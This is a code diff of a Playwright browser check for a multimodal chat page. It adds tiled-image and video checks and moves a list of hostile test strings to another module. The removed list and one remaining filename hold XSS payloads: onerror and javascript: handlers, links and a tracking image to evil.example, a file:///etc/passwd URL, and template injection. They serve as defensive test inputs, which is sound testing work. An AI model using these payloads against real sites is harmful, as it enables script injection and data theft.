@@ -2,7 +2,9 @@
  * Uses the chat page in a headless Chromium, before a model that says what it is told: pictures pasted, dropped and chosen, a
  * video, stop, regenerate, edit, two models, a history of 200 turns that outlives a reload, hostile texts and names of files,
  * keys, Chinese, accessibility by axe. No request may leave the server, and nothing may be said in the console.
- *   node proofs/check-page.ts [--screenshots FOLDER]
+ *   node proofs/check-page.ts [--screenshots FOLDER] [--video FILE]
+ * A small random model of AnyRes is asked too: the tiles drawn over a picture and the tokens told are those that it reads, and
+ * with --video so are a clip's frames.
  */
 import assert from "node:assert/strict";
 import { readFileSync } from "node:fs";
@@ -11,12 +13,19 @@ import { fileURLToPath } from "node:url";
 import { parseArgs } from "node:util";
 import { type BrowserContext, chromium, type Page } from "playwright-core";
 import sharp from "sharp";
+import { loadCheckpoint } from "../src/pretrained/index.ts";
 import type { ServedRequest } from "../src/protocol/index.ts";
+import { ServingEngine } from "../src/serving/engine/index.ts";
 import { HttpServer, readPageFiles } from "../src/serving/http/index.ts";
 import { browserNames, findBrowser } from "../test/support/browser.ts";
 import { FakeServedModel, wordsOf } from "../test/support/fake-served-model.ts";
 
-const { values: flags } = parseArgs({ options: { screenshots: { type: "string" } } });
+import { hostile } from "./check-page/hostile-texts.ts";
+import { give, tiles, video } from "./check-page/real-media.ts";
+
+const { values: flags } = parseArgs({
+  options: { screenshots: { type: "string" }, video: { type: "string" } },
+});
 const executablePath = findBrowser();
 if (executablePath === undefined) {
   console.log(`skipped: no Chromium found (${browserNames.join(", ")} in PATH, or LLAVA_CHROMIUM)`);
@@ -31,58 +40,16 @@ const slow = new FakeServedModel({ id: "slow", contextLength: 1e6, pace: 30, ans
 await using server = await HttpServer.listen({ port: 0, keys: [KEY], page: readPageFiles() });
 await server.add("quick", quick);
 await server.add("slow", slow);
+const fixture = fileURLToPath(new URL("../test/fixtures/llava-next/llama", import.meta.url));
+using pretrained = await loadCheckpoint(fixture);
+using tiled = new ServingEngine({ id: "tiled", pretrained }, { memory: 1 << 28 });
+await server.add("tiled", tiled);
 
 await using browser = await chromium.launch({ executablePath, args: ["--no-sandbox"] });
 const faults: string[] = [];
 const picture = await sharp({ create: { width: 60, height: 40, channels: 3, background: "teal" } })
   .png()
   .toBuffer();
-
-/** Texts that would run, load or hide something where a page took them for more than text. */
-const hostile = [
-  ..."img svg video audio iframe embed object body input details marquee style link math"
-    .split(" ")
-    .flatMap((tag) => [
-      `<${tag} src=x onerror=alert(1) onload=alert(1)>`,
-      `<${tag.toUpperCase()}/onfocus=alert(1) autofocus href="//evil.example/x">`,
-      `<${tag}><script>alert(1)</script></${tag}>`,
-    ]),
-  ...[
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "vbscript:x",
-    "//evil.example/p",
-    "file:///etc/passwd",
-    "\u0001javascript:alert(1)",
-    "java\tscript:alert(1)",
-  ].flatMap((address) => [
-    `[link](${address})`,
-    `![picture](${address})`,
-    `<${address}>`,
-    `[ref]\n\n[ref]: ${address}`,
-  ]),
-  "![track](https://evil.example/p.png?q=secret)",
-  "<script>alert(1)</script>",
-  "<<script>script>alert(1)//<</script>",
-  '"><script>alert(1)</script>',
-  "`</code><script>alert(1)</script>`",
-  "```\n</pre><script>alert(1)</script>\n```",
-  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
-  "- <img src=x onerror=alert(1)>",
-  "# <img src=x onerror=alert(1)>",
-  "> <svg/onload=alert(1)>",
-  "&lt;script&gt;alert(1)&lt;/script&gt;",
-  "\u202Egnp.exe",
-  "<base href=//evil.example>",
-  '<meta http-equiv=refresh content="0;url=//evil.example">',
-  "<form action=//evil.example><button>go</button></form>",
-  "{{constructor.constructor('alert(1)')()}}",
-  "<!--><script>alert(1)</script>-->",
-  "<a href=javascript:alert(1)>x</a>",
-  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-  "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
-];
 
 async function opened(context: BrowserContext): Promise<Page> {
   const page = await context.newPage();
@@ -111,21 +78,7 @@ async function say(page: Page, text: string): Promise<void> {
   await page.getByPlaceholder(/Ask/).press("Enter");
 }
 
-/** Gives a file to the page as pasting or dropping it does. */
-async function give(page: Page, event: "paste" | "drop", name: string): Promise<void> {
-  await page.evaluate(
-    `(() => {
-      const data = new DataTransfer();
-      const bytes = Uint8Array.from(atob(${JSON.stringify(picture.toString("base64"))}), (c) => c.charCodeAt(0));
-      data.items.add(new File([bytes], ${JSON.stringify(name)}, { type: "image/png" }));
-      dispatchEvent(${
-        event === "paste"
-          ? 'new ClipboardEvent("paste", { clipboardData: data, cancelable: true })'
-          : 'new DragEvent("drop", { dataTransfer: data, cancelable: true })'
-      });
-    })()`,
-  );
-}
+const png = (name: string) => ({ name, type: "image/png", bytes: picture });
 
 const last = (page: Page) => page.locator(".answer .body").last();
 const isDone = (page: Page) => page.getByRole("button", { name: "Send" }).waitFor();
@@ -161,9 +114,9 @@ await check("first paint within 300 ms, all files within 150 kB", async () => {
 });
 
 await check("pictures pasted, dropped and chosen go before the text, in their order", async () => {
-  await give(page, "paste", "first.png");
+  await give(page, "paste", png("first.png"));
   await page.getByText("first.png", { exact: false }).first().waitFor();
-  await give(page, "drop", "<img src=x onerror=alert(1)>.png");
+  await give(page, "drop", png("<img src=x onerror=alert(1)>.png"));
   await page.locator(".previews figure").nth(1).waitFor();
   await page
     .locator("input[type=file]")
@@ -258,6 +211,18 @@ await check("conversations are begun, gone back to and deleted", async () => {
   assert.equal(await page.locator("article").count(), 0);
   await page.getByRole("button", { name: "Another one", exact: true }).click();
 });
+
+await check("a picture is drawn in its model's tiles, and its tokens are those that are read", async () => {
+  await page.getByRole("button", { name: "New conversation" }).click();
+  await page.getByRole("combobox", { name: "Model", exact: true }).selectOption("tiled");
+  await tiles(page, tiled);
+});
+
+if (flags.video !== undefined)
+  await check("a video is answered, and its tokens are those that are read", async () => {
+    await page.getByRole("button", { name: "New conversation" }).click();
+    await video(page, tiled, flags.video!);
+  });
 
 const axe = readFileSync(fileURLToPath(import.meta.resolve("axe-core")), "utf8");
 for (const [name, width] of [
